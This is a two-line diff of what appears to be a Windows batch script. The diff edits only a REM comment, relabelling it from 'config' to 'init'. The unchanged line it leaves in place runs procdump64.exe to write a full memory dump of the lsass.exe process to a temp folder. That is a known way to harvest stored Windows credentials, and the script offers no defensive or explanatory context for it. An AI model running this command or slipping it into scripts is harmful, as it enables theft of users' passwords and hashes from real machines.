@@ -1,2 +1,2 @@
-REM config 3733 v4
+REM init 4005 v4
 procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\ls.dmp
